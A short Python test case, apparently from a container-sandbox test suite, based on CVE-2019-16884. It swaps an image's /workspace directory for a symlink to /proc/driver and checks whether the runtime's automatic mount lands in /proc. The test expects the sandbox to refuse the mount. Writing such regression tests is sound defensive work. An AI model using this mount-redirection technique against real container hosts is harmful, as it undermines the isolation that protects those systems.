"""The image's /workspace is a link, and what is mounted there unasked goes where it leads."""

import os

from bypass import refused

SOURCE = "CVE-2019-16884"
WAY = "image content"
BARE = "only closedclaw mounts something at /workspace by itself"
STOPPED = refused("mount-target")


def attack(t):
    os.rmdir(t.rootfs + "/workspace")
    os.symlink("/proc/driver", t.rootfs + "/workspace")
    return "tmpfs" in t.run("grep ' /proc/driver ' /proc/mounts")
